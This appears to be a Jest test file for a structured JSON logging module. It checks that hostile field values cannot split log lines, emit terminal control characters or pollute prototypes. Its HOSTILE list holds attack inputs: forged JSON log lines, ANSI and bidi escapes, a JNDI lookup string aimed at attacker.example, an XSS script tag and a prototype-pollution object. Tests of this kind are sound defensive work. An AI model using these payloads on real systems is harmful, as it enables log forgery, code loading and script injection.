import { execFileSync } from "node:child_process";
import { fileURLToPath } from "node:url";
import { expect, test } from "@jest/globals";

/** Texts that may stand in a name, a URL, an organization's id, or the reason of a rejected event. */
const HOSTILE = [
  'line\nbreak\r\n{"level":"error","message":"forged"}',
  '","level":"error","message":"forged","x":"',
  "\u001b[2J\u001b]0;title\u0007 ANSI",
  "\u009b31m C1, \u0085 next line, \u2028 and \u2029",
  "\u202e txet \u2066 bidi \u2069",
  "\u0000 NUL, \ud800 lone surrogate",
  "{jndi:ldap://attacker.example/a} %s %d %o",
  "</script><script>alert(1)</script>",
];

/** The output of a program that writes to a log. */
function print(program: string): string {
  const telemetry = fileURLToPath(new URL("../../dist/telemetry/log.js", import.meta.url));
  const begin = `import { createLog } from ${JSON.stringify(telemetry)};
    const log = createLog({ service: "test", level: "debug" });`;
  return execFileSync(process.execPath, ["--input-type=module", "--eval", begin + program], { encoding: "utf8" });
}

test("whatever is logged, one line stays one JSON object, and holds no character that a terminal obeys", () => {
  const printed = print(`
    for (const text of ${JSON.stringify(HOSTILE)}) {
      log.info("constant", { field: text, [text]: text, inside: { [text]: [text] }, error: new Error(text, { cause: new Error(text) }) });
      log.info("prototypes", JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'));
    }
    if ({}.polluted !== undefined) process.exit(1);`);
  const lines = printed.split("\n").filter((line) => line !== "");
  expect(lines).toHaveLength(HOSTILE.length * 2);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
  expect(printed.replaceAll("\n", "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
  for (const [index, text] of HOSTILE.entries()) {
    const logged = JSON.parse(lines[index * 2] ?? "") as Record<string, unknown>;
    expect(logged).toMatchObject({ level: "info", service: "test", field: text });
  }
});

test("an error's code is a field of its own beside its text, as a SQLSTATE to search for", () => {
  const printed = print(`log.warn("failed", { error: Object.assign(new Error("gone"), { code: "57P01" }) });`);
  expect(JSON.parse(printed)).toMatchObject({ error: expect.stringMatching(/^Error: gone\n/), errorCode: "57P01" });
});
